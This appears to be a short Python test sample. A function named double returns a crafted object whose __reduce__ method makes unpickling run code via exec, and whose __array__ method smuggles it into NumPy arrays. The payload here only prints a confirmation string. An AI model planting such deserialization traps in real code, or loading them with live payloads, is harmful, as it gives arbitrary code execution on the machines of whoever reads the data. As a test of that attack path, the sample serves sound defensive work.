"""Returns an object whose pickle runs code in the process of whoever reads it."""
# control: process
# %% attack in double
class Pickled:
    def __reduce__(self): return (exec, ("print('WOR' + 'KED')",))
    def __array__(self, dtype=None, copy=None): return np.array([Pickled()], dtype=object)
def double(x): return Pickled()
